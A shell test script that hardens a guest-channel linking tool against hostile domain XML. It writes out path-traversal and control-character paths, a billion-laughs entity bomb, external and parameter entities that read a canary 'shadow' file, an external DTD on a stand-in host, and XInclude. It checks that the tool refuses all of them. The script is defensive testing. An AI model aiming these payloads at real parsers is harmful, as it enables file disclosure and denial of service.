#!/bin/bash
# Attack: hostile domain XML on stdin. Paths with "..", control characters,
# thousands of characters or overlong components; entity and DTD tricks
# (billion laughs, an external entity naming /etc/shadow, external DTDs,
# XInclude); huge documents (megabytes, thousands of channels, too deep,
# over the size limit); and plain garbage. Each gets a clear refusal or the
# correct wiring, in time, and no file is read or made where it should not be.
. "$(dirname "$0")/../lib.sh"
. "$VSERLINK_TOP/tests/hardening/attack_lib.sh"
setup
P=$T/p
pairs <<INI
[port1]
guesta = org.linux-kvm.port.1
guestb = org.linux-kvm.port.1
INI
mkdir -m 700 "$T/vault"
echo "CANARY-$RANDOM-shadow-line" >"$T/vault/shadow" && chmod 600 "$T/vault/shadow"
snap vault "$T/vault" "$T/vault/shadow"
canary=$(cat "$T/vault/shadow")
domain guestb pipe:org.linux-kvm.port.1:$P/b1 >"$T/b.xml"
no_canary() { ! grep -qF "$canary" "$T/err" "$T/out"; }

# xml_with PATH: guesta's XML with a raw (already escaped) source path.
xml_with() {
	printf '%s\n' "<domain type='kvm'><name>guesta</name><devices>" \
		"<channel type='pipe'><source path='$1'/><target type='virtio' name='org.linux-kvm.port.1'/></channel>" \
		"</devices></domain>"
}
path_case() {
	local desc=$1 msg=$2 path=$3
	xml_with "$path" >"$T/x.xml"
	check "path $desc: refused" refused "$msg" guesta prepare begin <"$T/x.xml"
	check "  nothing was made" nothing_under "$T"
}
long=$(printf 'x%.0s' $(seq 5000))
comp=$(printf 'y%.0s' $(seq 300))
path_case "with a .. component" 'contains a "." or ".." component' "$P/../vault/a1"
path_case "with a . component" 'contains a "." or ".." component' "$P/./a1"
path_case "ending in .." 'contains a "." or ".." component' "$P/.."
path_case "with a newline (character reference)" "contains a control character" "$P/a&#10;1"
path_case "with a tab" "contains a control character" "$P/a&#9;1"
path_case "with an escape character (not XML 1.0)" "domain XML line" "$P/a&#27;[2J1"
path_case "with a DEL character" "contains a control character" "$P/a&#127;1"
# The message names the path in full, so the reason may be cut off at the
# log line's 2048 bytes; the refusal itself is what is proven here.
path_case "of 5000 characters" "vserlink: guest guesta: link port1 (org.linux-kvm.port.1): $P/xxxx" "$P/$long"
path_case "with a 300-character last component" 'too long for ".out" to be added' "$P/$comp"
path_case "with a 300-character directory" "name too long" "$P/$comp/a1"
path_case "relative" "is not an absolute path" "p/a1"
path_case "empty" "is not an absolute path" ""
path_case "ending in /" "ends in '/'" "$P/"
path_case "that is the root" "ends in '/'" "/"
xml_with "$P/a1&#0;x" >"$T/x.xml"
check "path with a NUL character reference: refused (not well-formed)" refused "domain XML line" guesta prepare begin <"$T/x.xml"
check "  nothing was made" nothing_under "$T"
xml_with "/proc/self/fd/a1" >"$T/x.xml"
check "path under /proc/self: refused, not followed" refused "/proc/self: is a symbolic link" guesta prepare begin <"$T/x.xml"

# Entity and DTD tricks: no DOCTYPE is accepted, nothing is read or fetched.
doc_case() {
	local desc=$1
	check "$desc: refused" refused "domain XML has a DOCTYPE" guesta prepare begin <"$T/x.xml"
	check "  the file it names was not read into any message" no_canary
	check "  nothing was made" nothing_under "$T"
}
cat >"$T/x.xml" <<XML
<?xml version="1.0"?>
<!DOCTYPE domain [
 <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
 <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
 <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
]>
<domain><name>guesta</name><description>&g;</description><devices>
<channel type='pipe'><source path='$P/a1'/><target type='virtio' name='org.linux-kvm.port.1'/></channel>
</devices></domain>
XML
doc_case "billion laughs"
cat >"$T/x.xml" <<XML
<?xml version="1.0"?>
<!DOCTYPE domain [ <!ENTITY xxe SYSTEM "file://$T/vault/shadow"> ]>
<domain><name>guesta</name><devices>
<channel type='pipe'><source path='$P/&xxe;'/><target type='virtio' name='org.linux-kvm.port.1'/></channel>
</devices></domain>
XML
doc_case "external entity naming a shadow file, used in the path"
cat >"$T/x.xml" <<XML
<?xml version="1.0"?>
<!DOCTYPE domain SYSTEM "http://192.0.2.1/evil.dtd">
<domain><name>guesta</name><devices>
<channel type='pipe'><source path='$P/a1'/><target type='virtio' name='org.linux-kvm.port.1'/></channel>
</devices></domain>
XML
doc_case "external DTD on the network"
cat >"$T/x.xml" <<XML
<?xml version="1.0"?>
<!DOCTYPE domain [ <!ENTITY % p SYSTEM "file://$T/vault/shadow"> %p; ]>
<domain><name>guesta</name><devices/></domain>
XML
doc_case "parameter entity naming a shadow file"
cat >"$T/x.xml" <<XML
<domain xmlns:xi="http://www.w3.org/2001/XInclude"><name>guesta</name><devices>
<channel type='pipe'><source path='$P/a1'/><target type='virtio' name='org.linux-kvm.port.1'/></channel>
<xi:include href="$T/vault/shadow" parse="text"/>
</devices></domain>
XML
check "XInclude of a shadow file is not processed: the start goes on" hook guesta prepare begin <"$T/x.xml"
check "  and the file was not read into any message" no_canary
hook guesta release end <"$T/x.xml"
xml_with "$P/&xxe;" >"$T/x.xml"
check "an undeclared entity reference: refused as not well-formed" refused "domain XML line" guesta prepare begin <"$T/x.xml"
check "the vault is as it was" same vault

# Size: megabytes and thousands of channels work; beyond the limits, refused in time.
{
	echo "<domain type='kvm'><name>guesta</name><devices>"
	pad=${long:0:200}
	for i in $(seq 5000); do
		echo "<channel type='pipe'><source path='$P/$pad/$pad/$pad/$pad/unlinked-$i'/><target type='virtio' name='org.example.$i'/></channel>"
	done
	echo "<channel type='pipe'><source path='$P/a1'/><target type='virtio' name='org.linux-kvm.port.1'/></channel>"
	echo "</devices></domain>"
} >"$T/big.xml"
size=$(stat -c %s "$T/big.xml")
start=$(date +%s%N)
check "a $((size / 1048576)) MB XML with 5001 channels: prepare exits 0" hook guesta prepare begin <"$T/big.xml"
ms=$((($(date +%s%N) - start) / 1000000))
echo "# $size bytes, 5001 channels: prepare took $ms ms"
check "  in less than 5 seconds" [ "$ms" -lt 5000 ]
check "  only the linked port got FIFOs" [ "$(find "$P" -type p | wc -l)" -eq 2 ]
hook guestb prepare begin <"$T/b.xml"
check "  and it is wired" wired "$P/a1" "$P/b1"
hook guesta release end <"$T/big.xml"; hook guestb release end <"$T/b.xml"
{ echo "<domain><name>guesta</name><devices>"; head -c 70000000 /dev/zero | tr '\0' ' '; echo "</devices></domain>"; } >"$T/huge.xml"
check "a 70 MB XML (over the 64 MB limit): refused" refused "cannot read the domain XML from stdin: File too large" guesta prepare begin <"$T/huge.xml"
rm -f "$T/huge.xml"
{ echo "<domain><name>guesta</name>"; for i in $(seq 20000); do printf '<a>'; done; for i in $(seq 20000); do printf '</a>'; done; echo "</domain>"; } >"$T/x.xml"
check "an XML nested 20000 deep: refused" refused "domain XML line" guesta prepare begin <"$T/x.xml"
printf '<domain><name>guesta</name>\0<devices/></domain>' >"$T/x.xml"
check "an XML with a NUL byte: refused" refused "domain XML" guesta prepare begin <"$T/x.xml"
printf '<?xml version="1.0" encoding="UTF-16"?><domain><name>guesta</name></domain>' >"$T/x.xml"
check "an XML declaring the wrong encoding: exits 0 or 1, in time" calm guesta prepare begin <"$T/x.xml"
# only_own_lines GUEST: every line of the last hook's stderr is vserlink's
# and names GUEST; none is a message of libxml2's own.
only_own_lines() {
	local stray
	stray=$(grep -v "^vserlink: \(warning: \)\?guest $1: " "$T/err")
	[ -z "$stray" ] || { echo "# stray lines on stderr:"; sed 's/^/#   /' <<<"$stray"; return 1; }
}
for enc in UTF-32 EBCDIC-US UCS-4 UTF-16; do
	{ printf "<?xml version='1.0' encoding='%s'?>" "$enc"; xml_with "$P/a1"; } >"$T/x.xml"
	check "an XML declaring $enc for ASCII, linked guest: refused" refused "guest guesta: domain XML line 1: " guesta prepare begin <"$T/x.xml"
	check "  every line on stderr starts with vserlink: and names the guest" only_own_lines guesta
	sed 's/guesta/guestz/' "$T/x.xml" >"$T/z.xml"
	check "  the same for a guest pairs.ini does not link: exits 0" hook guestz prepare begin <"$T/z.xml"
	check "  every line on stderr starts with vserlink: and names the guest" only_own_lines guestz
done
head -c 100000 /dev/urandom >"$T/x.xml"
check "random bytes: refused" refused "domain XML" guesta prepare begin <"$T/x.xml"
check "empty stdin: refused" refused "domain XML" guesta prepare begin </dev/null
xml_with "$P/a1" | sed 's/guesta/guestb/' >"$T/x.xml"
check "the XML of another guest: refused" refused "the domain XML on stdin is guest guestb's" guesta prepare begin <"$T/x.xml"
check "after all of it nothing was made" nothing_under "$T"
done_testing
